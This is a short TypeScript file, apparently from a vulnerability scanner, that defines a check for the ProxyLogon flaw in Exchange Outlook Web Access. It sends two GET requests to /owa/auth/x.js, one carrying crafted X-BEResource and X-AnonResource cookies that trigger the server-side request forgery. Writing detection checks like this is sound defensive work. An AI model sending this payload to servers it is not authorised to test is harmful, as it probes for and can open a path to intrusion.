import { type Proof, get, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'proxylogon',
    get('/owa/auth/x.js', { cookies: 'X-BEResource=localhost/x?~3; X-AnonResource=true' }),
    get('/owa/auth/x.js', { cookies: 'ClientId=1' }),
  ),
]
